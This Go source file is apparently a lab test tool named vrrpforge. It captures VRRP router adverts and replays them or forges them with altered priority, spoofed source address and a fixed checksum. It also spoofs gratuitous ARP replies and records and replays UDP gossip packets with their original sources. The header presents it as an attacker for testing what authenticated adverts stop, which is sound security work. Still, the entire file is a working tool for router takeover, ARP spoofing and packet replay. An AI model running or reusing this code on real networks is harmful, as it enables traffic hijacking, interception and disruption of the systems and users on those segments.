// Command vrrpforge is the lab's attacker on the segment, for the tests
// that show what authenticated adverts stop. It has no key: it captures a
// real VRRP advert (IPv4) from a member's address, then sends it again
// with that source address, as captured (a replay) or with another
// priority or source address and the checksum fixed (a forgery). With
// -garp it announces an address with gratuitous ARP from its own MAC
// instead. -record and -replay do the same to gossip: record the UDP
// packets a node receives on a port (run in that node's namespace: one
// moment on the path), and later send them again, as they were, to it.
package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"github.com/mdlayher/arp"
	"golang.org/x/sys/unix"
)

func main() {
	iface := flag.String("i", "eth0", "interface")
	from := flag.String("from", "", "capture an advert from this source address")
	vrid := flag.Int("vrid", 0, "capture an advert of this VRID (0: any)")
	prio := flag.Int("priority", -1, "send it with this priority, the checksum fixed (-1: as captured)")
	count := flag.Int("count", 1, "how many copies to send")
	every := flag.Duration("every", 100*time.Millisecond, "time between copies")
	garp := flag.String("garp", "", "announce this address with gratuitous ARP from our MAC instead")
	timeout := flag.Duration("timeout", 10*time.Second, "give up capturing after this long")
	delay := flag.Duration("delay", 0, "wait this long between the capture and the first copy")
	spoof := flag.String("src", "", "send it from this source address (default: the captured one)")
	record := flag.String("record", "", "record the IPv4 UDP packets this host receives on -port into this file, for -for")
	port := flag.Int("port", 7946, "with -record: the UDP port")
	recordFor := flag.Duration("for", 10*time.Second, "with -record: how long")
	replay := flag.String("replay", "", "send the packets of a -record file again, as they were, -every apart")
	flag.Parse()
	var err error
	switch {
	case *record != "":
		err = recordUDP(*record, *port, *recordFor)
	case *replay != "":
		err = replayUDP(*iface, *replay, *every)
	case *garp != "":
		err = announce(*iface, *garp, *count, *every)
	default:
		err = forge(*iface, *from, *vrid, *prio, *count, *every, *timeout, *delay, *spoof)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "vrrpforge:", err)
		os.Exit(1)
	}
}

func forge(iface, from string, vrid, prio, count int, every, timeout, delay time.Duration, spoof string) error {
	src, err := netip.ParseAddr(from)
	if err != nil || !src.Is4() {
		return fmt.Errorf("-from %q: want an IPv4 address", from)
	}
	rx, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, 112)
	if err != nil {
		return fmt.Errorf("open a VRRP socket: %w", err)
	}
	defer unix.Close(rx)
	// Multicast adverts reach the socket only once the interface has
	// joined VRRP's group.
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return err
	}
	mreq := &unix.IPMreqn{Multiaddr: [4]byte{224, 0, 0, 18}, Ifindex: int32(ifi.Index)}
	if err := unix.SetsockoptIPMreqn(rx, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP, mreq); err != nil {
		return fmt.Errorf("join 224.0.0.18 on %s: %w", iface, err)
	}
	tv := unix.NsecToTimeval(int64(200 * time.Millisecond))
	unix.SetsockoptTimeval(rx, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	buf := make([]byte, 65536)
	var pkt []byte
	for deadline := time.Now().Add(timeout); pkt == nil; {
		if time.Now().After(deadline) {
			return fmt.Errorf("no advert from %s (VRID %d) within %s", src, vrid, timeout)
		}
		n, _, err := unix.Recvfrom(rx, buf, 0)
		if err != nil {
			continue
		}
		p := buf[:n]
		ihl := int(p[0]&0x0f) * 4
		if n < ihl+8 || netip.AddrFrom4([4]byte(p[12:16])) != src || (vrid != 0 && int(p[ihl+1]) != vrid) {
			continue
		}
		pkt = append([]byte(nil), p...)
	}
	fmt.Printf("captured %s's advert (VRID %d, priority %d)\n", src, pkt[int(pkt[0]&0x0f)*4+1], pkt[int(pkt[0]&0x0f)*4+2])
	time.Sleep(delay)
	ihl := int(pkt[0]&0x0f) * 4
	if spoof != "" {
		a, err := netip.ParseAddr(spoof)
		if err != nil || !a.Is4() {
			return fmt.Errorf("-src %q: want an IPv4 address", spoof)
		}
		s4 := a.As4()
		copy(pkt[12:16], s4[:])
		if prio < 0 {
			prio = int(pkt[ihl+2]) // fix the checksum for the new source
		}
	}
	if prio >= 0 {
		v := pkt[ihl:]
		v[2] = byte(prio)
		pdu := 8 + 4*int(v[3])
		if v[0]>>4 == 2 {
			pdu += 8
		}
		v[6], v[7] = 0, 0
		binary.BigEndian.PutUint16(v[6:8], checksum(pkt[12:16], pkt[16:20], v[:pdu], v[0]>>4 == 3))
	}
	tx, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) // IP_HDRINCL: our own source address
	if err != nil {
		return fmt.Errorf("open a raw socket: %w", err)
	}
	defer unix.Close(tx)
	if err := unix.SetsockoptString(tx, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, iface); err != nil {
		return fmt.Errorf("bind to %s: %w", iface, err)
	}
	if err := unix.SetsockoptIPMreqn(tx, unix.IPPROTO_IP, unix.IP_MULTICAST_IF, &unix.IPMreqn{Ifindex: int32(ifi.Index)}); err != nil {
		return fmt.Errorf("send multicast on %s: %w", iface, err)
	}
	dst := &unix.SockaddrInet4{Addr: [4]byte(pkt[16:20])}
	for i := range count {
		if i > 0 {
			time.Sleep(every)
		}
		if err := unix.Sendto(tx, pkt, 0, dst); err != nil {
			return fmt.Errorf("send: %w", err)
		}
	}
	fmt.Printf("sent %d copies from %s (VRID %d, priority %d)\n", count, netip.AddrFrom4([4]byte(pkt[12:16])), pkt[ihl+1], pkt[ihl+2])
	return nil
}

// checksum is the VRRP checksum of pdu; VRRPv3 adds the IPv4
// pseudo-header.
func checksum(src, dst, pdu []byte, v3 bool) uint16 {
	var s uint32
	add := func(b []byte) {
		for ; len(b) >= 2; b = b[2:] {
			s += uint32(b[0])<<8 | uint32(b[1])
		}
		if len(b) == 1 {
			s += uint32(b[0]) << 8
		}
	}
	if v3 {
		add(src)
		add(dst)
		s += 112 + uint32(len(pdu))
	}
	add(pdu)
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

func announce(iface, addr string, count int, every time.Duration) error {
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return err
	}
	a, err := netip.ParseAddr(addr)
	if err != nil || !a.Is4() {
		return errors.New("-garp: want an IPv4 address")
	}
	c, err := arp.Dial(ifi)
	if err != nil {
		return err
	}
	defer c.Close()
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	for i := range count {
		if i > 0 {
			time.Sleep(every)
		}
		p, err := arp.NewPacket(arp.OperationReply, ifi.HardwareAddr, a, bcast, a)
		if err != nil {
			return err
		}
		if err := c.WriteTo(p, bcast); err != nil {
			return err
		}
	}
	fmt.Printf("announced %s from %s %d times\n", a, ifi.HardwareAddr, count)
	return nil
}

// recordUDP writes every IPv4 UDP packet to port that this host receives
// within d to path: each as its length (2 bytes) and its IP packet.
func recordUDP(path string, port int, d time.Duration) error {
	rx, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_UDP)
	if err != nil {
		return fmt.Errorf("open a raw UDP socket: %w", err)
	}
	defer unix.Close(rx)
	tv := unix.NsecToTimeval(int64(200 * time.Millisecond))
	unix.SetsockoptTimeval(rx, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	var out []byte
	n, buf := 0, make([]byte, 65536)
	for deadline := time.Now().Add(d); time.Now().Before(deadline); {
		m, _, err := unix.Recvfrom(rx, buf, 0)
		if err != nil || m < 20 {
			continue
		}
		p := buf[:m]
		ihl := int(p[0]&0x0f) * 4
		if m < ihl+8 || int(binary.BigEndian.Uint16(p[ihl+2:])) != port {
			continue
		}
		out = binary.BigEndian.AppendUint16(out, uint16(m))
		out = append(out, p...)
		n++
	}
	if err := os.WriteFile(path, out, 0o600); err != nil {
		return err
	}
	fmt.Printf("recorded %d packets to UDP port %d\n", n, port)
	return nil
}

// replayUDP sends a -record file's packets again, each as it was (its
// source address too), every apart.
func replayUDP(iface, path string, every time.Duration) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	tx, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) // IP_HDRINCL
	if err != nil {
		return fmt.Errorf("open a raw socket: %w", err)
	}
	defer unix.Close(tx)
	if err := unix.SetsockoptString(tx, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, iface); err != nil {
		return fmt.Errorf("bind to %s: %w", iface, err)
	}
	n := 0
	for len(b) >= 2 {
		m := int(binary.BigEndian.Uint16(b))
		if len(b) < 2+m {
			return fmt.Errorf("%s is cut short", path)
		}
		p := b[2 : 2+m]
		b = b[2+m:]
		if err := unix.Sendto(tx, p, 0, &unix.SockaddrInet4{Addr: [4]byte(p[16:20])}); err != nil {
			return fmt.Errorf("send: %w", err)
		}
		n++
		time.Sleep(every)
	}
	fmt.Printf("replayed %d packets\n", n)
	return nil
}
